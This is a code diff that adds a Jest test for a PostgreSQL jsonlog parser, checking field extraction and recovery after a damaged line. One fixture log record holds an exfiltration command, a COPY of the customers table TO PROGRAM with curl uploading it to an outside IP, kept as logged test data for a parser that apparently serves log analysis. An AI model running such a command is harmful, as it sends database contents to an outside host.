@@ -242,4 +242,18 @@ describe('postgres_jsonlog', () => {
     expect(run.events[0]).toMatchObject({ action: 'other', host: 'pg-1', time_quality: 'exact' });
     expect(run.warnings.map((w) => w.line)).toEqual([2, 3]);
   });
+
+  it('reads jsonlog records of PostgreSQL 15–17 and goes on past a damaged line, naming its line and byte offset', async () => {
+    // Keys as elog.c's write_jsonlog writes them (PostgreSQL 15+); empty fields are left out.
+    const pg15 = '{"timestamp":"2026-01-02 02:30:00.120 UTC","user":"app","dbname":"shop","pid":4711,"remote_host":"203.0.113.77","remote_port":40210,"session_id":"6957a1b6.1267","line_num":2,"ps":"SELECT","session_start":"2026-01-02 02:29:58 UTC","vxid":"3/41","txid":0,"error_severity":"LOG","message":"statement: SELECT * FROM customers","application_name":"psql","backend_type":"client backend","query_id":-2837401736200475134}';
+    const pg17 = '{"timestamp":"2026-01-02 02:30:05.004 UTC","user":"app","dbname":"shop","pid":4711,"remote_host":"203.0.113.77","remote_port":40210,"session_id":"6957a1b6.1267","line_num":3,"ps":"COPY","session_start":"2026-01-02 02:29:58 UTC","vxid":"3/42","txid":0,"error_severity":"ERROR","state_code":"42501","message":"permission denied for function pg_read_file","statement":"COPY customers TO PROGRAM \'curl -T - http://198.51.100.7/x\'","func_name":"aclcheck_error","file_name":"aclchk.c","file_line_num":2843,"application_name":"psql","backend_type":"client backend","leader_pid":null,"query_id":5540021877743123005}';
+    const text = `${pg15}\n${pg15.slice(0, 70)}\n${pg17}\n`;
+    const run = await runParser(postgresJsonlog, text);
+    expect(run.events.map((e) => [e.action, e.actor, e.database, e.src_ip, e.src_port, e.outcome])).toEqual([
+      ['db_query', 'app', 'shop', '203.0.113.77', 40210, 'unknown'],
+      ['db_error', 'app', 'shop', '203.0.113.77', 40210, 'failure'],
+    ]);
+    expect(run.warnings).toEqual([expect.objectContaining({ line: 2, byte_offset: pg15.length + 1, reason: expect.stringMatching(/^invalid JSON/) })]);
+    expect(postgresJsonlog.sniff({ name: 'x.json', path: 'x.json', text, lines: text.split('\n') })?.confidence).toBe(95);
+  });
 });
